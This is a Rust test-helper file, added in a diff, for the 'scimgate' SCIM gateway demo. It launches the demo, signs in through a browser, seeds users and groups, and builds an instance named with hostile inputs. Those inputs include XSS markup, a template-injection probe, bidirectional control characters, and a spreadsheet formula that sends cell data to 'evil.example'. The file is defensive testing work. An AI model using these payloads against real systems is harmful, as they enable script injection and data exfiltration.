@@ -1,0 +1,214 @@
+//! `scimgate demo` as a process, and its console in a browser.
+
+use std::process::Stdio;
+use std::time::Duration;
+
+use http::Method;
+use serde_json::{Value, json};
+use tempfile::TempDir;
+use tests::browser::{Browser, Trouble};
+use tests::env::setting;
+use tests::{Admin, Scim, Sim, process};
+use tokio::io::{AsyncBufReadExt, BufReader};
+use tokio::process::{Child, Command};
+
+/// How long the demonstration may take to be ready.
+const READY: Duration = Duration::from_secs(120);
+/// The schema of a SCIM user.
+pub(crate) const USER: &str = "urn:ietf:params:scim:schemas:core:2.0:User";
+/// A name as a hostile directory would have it: markup that runs script where it is not escaped, a formula, a change of the
+/// text's direction, nothing to see.
+pub(crate) const HOSTILE: &str =
+    "<img src=x onerror=\"alert(1)\"><script>alert(2)</script>\u{202e}gro.live\u{202c}&'\u{200b}{{7*7}}";
+/// What a spreadsheet would run.
+pub(crate) const FORMULA: &str = "=HYPERLINK(\"http://evil.example/\"&A1,\"Ada\")";
+
+/// A running demonstration. It is killed when this is dropped.
+pub(crate) struct Demo {
+    // Dropped before its folder: fields go in order.
+    _child: Child,
+    _folder: TempDir,
+    /// Where its gateway listens.
+    pub(crate) url: String,
+    /// The admin token that it printed.
+    pub(crate) token: String,
+}
+
+impl Demo {
+    pub(crate) async fn start() -> Self {
+        let folder = tempfile::tempdir().expect("a temporary folder can be made");
+        let mut command = Command::new(process::binary());
+        command.arg("demo").env_clear().env("TMPDIR", folder.path()).stdin(Stdio::null()).stdout(Stdio::piped());
+        for kept in ["PATH", "HOME", "LLVM_PROFILE_FILE"] {
+            if let Some(value) = setting(kept) {
+                command.env(kept, value);
+            }
+        }
+        let mut child = command.kill_on_drop(true).spawn().expect("scimgate demo can be started");
+        let mut lines = BufReader::new(child.stdout.take().expect("stdout was asked for")).lines();
+        let printed = tokio::time::timeout(READY, async {
+            let mut printed = Vec::new();
+            while let Some(line) = lines.next_line().await.expect("what it prints is text") {
+                if line.starts_with("Ready.") {
+                    return printed;
+                }
+                printed.push(line);
+            }
+            panic!("the demonstration ended: {printed:#?}");
+        })
+        .await
+        .expect("the demonstration is ready within its bound");
+        // Whatever else it says is read and dropped, so that a full pipe never stops it.
+        tokio::spawn(async move { while let Ok(Some(_)) = lines.next_line().await {} });
+        let one = |word: &str| {
+            let found = printed.iter().find_map(|line| line.strip_prefix(word));
+            found.unwrap_or_else(|| panic!("no {word} in {printed:#?}")).trim().to_owned()
+        };
+        Self { url: one("gateway "), token: one("token "), _child: child, _folder: folder }
+    }
+
+    pub(crate) fn admin(&self) -> Admin {
+        Admin::new(&self.url, &self.token)
+    }
+
+    pub(crate) fn console(&self, path: &str) -> String {
+        format!("{}/console{path}", self.url)
+    }
+}
+
+/// Signs in with the token, as a person does.
+pub(crate) async fn sign_in(browser: &Browser, demo: &Demo, token: &str) {
+    browser.open(&demo.console("")).await;
+    browser.fill("Admin token", token).await;
+    browser.follow("Sign in").await;
+    let (address, page) = (browser.address().await, browser.text_of("document.documentElement.outerHTML").await);
+    assert_eq!(address, demo.console(""), "{page}");
+}
+
+/// Holds that no page did what none should: no refusal of the policy (CSP), no exception, no dialog, nothing on the
+/// console, nothing that could not be loaded.
+#[track_caller]
+pub(crate) fn calm(browser: &Browser, at: &str, pages_of_errors: &[&str]) {
+    let mut troubles = browser.troubles();
+    // A page that says that something is wrong is logged by the browser as one that could not be loaded.
+    let known = |one: &Trouble| one.kind == "network" && pages_of_errors.contains(&one.url.as_str());
+    troubles.retain(|one| !known(one));
+    assert!(troubles.is_empty(), "{at}: {troubles:#?}");
+}
+
+/// A person as an identity provider creates one.
+pub(crate) fn person(user_name: &str, display: &str) -> Value {
+    let mut parts = display.splitn(2, ' ');
+    let (given, family) = (parts.next().unwrap_or_default(), parts.next().unwrap_or("Example"));
+    json!({
+        "schemas": [USER],
+        "userName": user_name,
+        "displayName": display,
+        "name": {"givenName": given, "familyName": family},
+        "emails": [{"value": user_name, "type": "work", "primary": true}],
+        "active": true,
+    })
+}
+
+/// Has the identity provider create a person; answers the id.
+pub(crate) async fn push(scim: &Scim, body: &Value) -> String {
+    let made = scim.call(Method::POST, "/Users", Some(body)).await.expect(201);
+    made["id"].as_str().expect("a person has an id").to_owned()
+}
+
+/// The people and groups of a company, at a target that people use: most have accepted, some wait.
+pub(crate) const PEOPLE: [(&str, &str); 14] = [
+    ("ada@acme.example", "Ada Lovelace"),
+    ("grace@acme.example", "Grace Hopper"),
+    ("katherine@acme.example", "Katherine Johnson"),
+    ("alan@acme.example", "Alan Turing"),
+    ("dorothy@acme.example", "Dorothy Vaughan"),
+    ("edsger@acme.example", "Edsger Dijkstra"),
+    ("barbara@acme.example", "Barbara Liskov"),
+    ("tony@acme.example", "Tony Hoare"),
+    ("margaret@acme.example", "Margaret Hamilton"),
+    ("donald@acme.example", "Donald Knuth"),
+    ("radia@acme.example", "Radia Perlman"),
+    ("ken@acme.example", "Ken Thompson"),
+    ("frances@acme.example", "Frances Allen"),
+    ("john@acme.example", "John McCarthy"),
+];
+
+/// An instance as a company has it after a while, beside the two of the demonstration: something of everything that a page
+/// can show.
+pub(crate) struct Company {
+    pub(crate) sim: Sim,
+    pub(crate) id: String,
+    pub(crate) people: Vec<String>,
+    pub(crate) group: String,
+    pub(crate) hold: String,
+}
+
+impl Company {
+    pub(crate) async fn settle(demo: &Demo) -> Self {
+        let admin = demo.admin();
+        let sim = Sim::start("buildkite").await;
+        let mut body = sim.instance("Buildkite acme");
+        body["policy"] = json!({"brake": {"accounts": 1, "percent": 0, "window_minutes": 60}});
+        let made = admin.call(Method::POST, "/instances", Some(body)).await.expect(201);
+        let text = |value: &Value, name: &str| value[name].as_str().unwrap_or_default().to_owned();
+        let id = text(&made, "id");
+        let key = admin
+            .call(Method::POST, &format!("/instances/{id}/keys"), Some(json!({"name": "Entra 2026"})))
+            .await
+            .expect(201);
+        let scim = Scim::new(&text(&made, "scim_base_url"), &text(&key, "key"));
+        admin.imported(&id).await;
+        let mut people = Vec::new();
+        for (user_name, display) in &PEOPLE[..12] {
+            people.push(push(&scim, &person(user_name, display)).await);
+        }
+        admin.settled(&id).await;
+        sim.accept(json!({})).await;
+        admin.run(&id, "reconcile").await;
+        // Two are new, and have not accepted yet: their team waits for them.
+        for (user_name, display) in &PEOPLE[12..] {
+            people.push(push(&scim, &person(user_name, display)).await);
+        }
+        let members: Vec<&str> = people.iter().map(String::as_str).collect();
+        let group = scim.group("Platform engineering", &members[..8]).await;
+        scim.group("On call", &[members[1], members[12]]).await;
+        // A person whom the target refuses, somebody whose request was wrong, and a key that is none of ours.
+        let bad = json!({"schemas": [USER], "userName": ""});
+        scim.call(Method::POST, "/Users", Some(&bad)).await;
+        scim.call(Method::GET, "/Users?filter=userName%20zz%20%22a%22", None).await;
+        // More leave at once than the brake lets pass.
+        for leaver in &people[8..12] {
+            scim.set_active(leaver, false).await;
+        }
+        let hold = tests::wait_until("the brake holds the leavers", READY, async || {
+            let held = admin.work(&id, "state=held").await;
+            let holds = admin.list("/holds?state=open").await;
+            (held.len() == 3).then(|| holds.first().map(|one| text(one, "id"))).flatten()
+        })
+        .await;
+        Self { sim, id, people, group, hold }
+    }
+}
+
+/// An instance whose every name is hostile: long, in markup, in formulas, in another direction. Its target is never called.
+pub(crate) async fn hostile(demo: &Demo) -> String {
+    let admin = demo.admin();
+    let body = json!({"name": HOSTILE, "connector": "buildkite", "settings": {"org": "acme"}, "secrets": {"token": "canary"}, "mode": "paused"});
+    let made = admin.call(Method::POST, "/instances", Some(body)).await.expect(201);
+    let id = made["id"].as_str().expect("an instance has an id").to_owned();
+    let key =
+        admin.call(Method::POST, &format!("/instances/{id}/keys"), Some(json!({"name": HOSTILE}))).await.expect(201);
+    let base = made["scim_base_url"].as_str().expect("an instance has an address");
+    let scim = Scim::new(base, key["key"].as_str().expect("a new key is told"));
+    let long = "x".repeat(4_000);
+    let mut members = Vec::new();
+    for user_name in [HOSTILE, FORMULA, long.as_str()] {
+        let body = json!({"schemas": [USER], "userName": user_name, "displayName": HOSTILE, "title": FORMULA});
+        members.push(push(&scim, &body).await);
+    }
+    let members: Vec<&str> = members.iter().map(String::as_str).collect();
+    scim.group(HOSTILE, &members).await;
+    scim.group(&"\u{5d0}\u{5d1}W".repeat(1_000), &members[..1]).await;
+    id
+}
